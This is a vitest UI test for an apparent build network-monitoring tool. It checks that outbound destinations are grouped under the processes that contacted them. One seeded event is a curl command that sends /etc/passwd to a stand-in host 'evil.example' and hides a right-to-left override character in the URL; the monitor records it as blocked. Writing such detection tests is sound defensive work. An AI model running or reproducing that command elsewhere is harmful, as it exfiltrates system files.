import { afterAll, beforeAll, expect, test } from 'vitest'
import { connect, exec, execIdOf, query } from '../../../server/test/ingest/sample-events.ts'
import { choose } from '../rig/choose.ts'
import { type AppPage, Web } from '../rig/web.ts'
import { madeJob } from './made.ts'

let web: Web
let path: string
beforeAll(async () => {
  web = await Web.start()
  const curl = { exe: '/usr/bin/curl' }
  path = await madeJob(web, '5130', [
    exec(1, 100, { ...curl, argv: ['curl', '-s', 'https://registry.example.org/a'] }),
    exec(2, 101, { ...curl, argv: ['curl', '-d', '@/etc/passwd', 'https://\u202eevil.example'] }),
    connect(3, { execId: execIdOf(100), host: 'registry.example.org' }),
    connect(4, { execId: execIdOf(101), host: 'registry.example.org' }),
    query(5, { execId: execIdOf(101), name: 'evil.example', verdict: 'blocked' }),
  ])
})
afterAll(() => web[Symbol.asyncDispose]())

const lines = (page: AppPage): Promise<string[]> =>
  page.run(() =>
    [...document.querySelectorAll('.tab tbody tr:not(.below)')].map((row) =>
      row.className === 'section'
        ? `# ${row.textContent}`
        : `${row.querySelector('.chip')?.textContent} ${row.querySelector('td.wide code')?.textContent}`,
    ),
  )

test('destinations stand below the process that went there, which its command names', async () => {
  const page = await web.open(`${path}?tab=network`)
  await choose(page, 'Group by', 'process')
  await page.sees('link', /^curl -s/)
  expect(await lines(page)).toEqual([
    "# curl -d @/etc/passwd 'https://\\u{202e}evil.example'pid 101 in build2 destinationsblocked 1allowed 1",
    'blocked evil.example',
    'allowed registry.example.org:443',
    '# curl -s https://registry.example.org/apid 100 in build1 destinationallowed 1',
    'allowed registry.example.org:443',
  ])
  expect(await page.run(() => location.search)).toContain('by=process')
  await page.checked()
  await page.click('link', /^curl -d/)
  await page.sees('complementary', 'Process 101')
})

test('a program of the list is a link to the process that was there first', async () => {
  const page = await web.open(`${path}?tab=network`)
  await page.click('link', '/usr/bin/curl')
  await page.sees('complementary', 'Process 101')
})
